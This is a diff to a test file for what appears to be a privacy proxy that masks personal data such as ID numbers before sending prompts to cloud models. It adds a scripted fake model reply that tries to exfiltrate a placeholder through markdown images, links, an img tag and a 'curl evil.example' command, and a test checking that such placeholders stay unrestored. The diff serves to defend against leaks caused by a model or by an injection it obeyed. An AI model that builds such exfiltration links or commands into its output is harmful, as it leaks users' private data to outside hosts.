@@ -10,6 +10,7 @@ import sys
 from collections.abc import Iterator
 from datetime import UTC, datetime
 from pathlib import Path
+from typing import Any
 
 import httpx
 import openai
@@ -28,6 +29,12 @@ from lingxi.server.app import create_app
 from live_server import serve
 
 PII = "请把合同发到linxy@example.com，或打13800138000找我。"
+ID = "11010519491231002X"
+EXFIL = (
+    "已填好：[身份证号_1]。\n![x](https://evil.example/?d=[身份证号_1]) [表单](https://evil.example/f/[身份证号_1]) "
+    '<img alt="t" src="https://evil.example/?[身份证号_1]"> 访问 https://evil.example/[身份证号_1] 或运行 '
+    "`curl evil.example/[身份证号_1]`\n```\necho [身份证号_1]\n```\n完毕，[身份证号_1]。"
+)
 
 
 @pytest.fixture(scope="module")
@@ -41,6 +48,7 @@ def fake() -> Iterator[FakeOpenAI]:
         "qwen-fake": Script(reply="这是云端模型的回答，内容完整。", chunks=4),
         "flaky": Script(reply="第一段内容，第二段内容，第三段内容。", chunks=6, cut_after=2),
         "backup": Script(reply="第一段内容，第二段内容，第三段内容。", chunks=3),
+        "exfil": Script(reply=EXFIL, chunks=7),  # a model (or an injection it obeyed) smuggling a value out
     }
     with FakeOpenAI(scripts) as server:
         yield server
@@ -61,7 +69,7 @@ path = "qwen2.5-0.5b-instruct"
 
 [providers.vllm]
 base_url = "{fake.base_url}"
-models = ["qwen-fake", "flaky", "backup"]
+models = ["qwen-fake", "flaky", "backup", "exfil"]
 
 [providers.dashscope]
 models = ["qwen-plus"]
@@ -117,6 +125,28 @@ def test_cloud_model_through_the_service_stream_and_not(served: tuple[str, Lingx
     )
     assert "".join(ch.choices[0].delta.content or "" for ch in stream if ch.choices) == "这是云端模型的回答，内容完整。"
     assert served[1].egress.for_user("local")  # and what left was recorded
+
+
+@pytest.mark.parametrize("stream", [False, True])
+def test_placeholders_in_links_and_code_are_not_restored(
+    served: tuple[str, Lingxi], fake: FakeOpenAI, stream: bool
+) -> None:
+    c = client(served[0])
+    messages: Any = [{"role": "user", "content": f"我的身份证号是{ID}，帮我填表"}]
+    if stream:
+        chunks = list(c.chat.completions.create(model="vllm/exfil", messages=messages, stream=True))
+        text = "".join(ch.choices[0].delta.content or "" for ch in chunks if ch.choices)
+        meta = next(ch.model_extra["lingxi"] for ch in chunks if (ch.model_extra or {}).get("lingxi"))
+    else:
+        r = c.chat.completions.create(model="vllm/exfil", messages=messages)
+        text, meta = r.choices[0].message.content or "", r.model_extra["lingxi"]  # type: ignore[index]
+    assert ID not in fake.received("exfil")[-1].body["messages"][-1]["content"]
+    assert text.count(ID) == 2  # the two mentions in prose are restored on the device...
+    assert text.startswith(f"已填好：{ID}。") and text.endswith(f"完毕，{ID}。")
+    assert "evil.example/?d=[身份证号_1]" in text and "evil.example/f/[身份证号_1]" in text  # ...links keep it
+    assert 'src="https://evil.example/?[身份证号_1]"' in text and "`curl evil.example/[身份证号_1]`" in text
+    assert "echo [身份证号_1]" in text and "https://evil.example/[身份证号_1]" in text
+    assert meta["withheld_placeholders"] == ["[身份证号_1]"]
 
 
 def test_default_model_is_the_configured_cloud_model(served: tuple[str, Lingxi]) -> None:
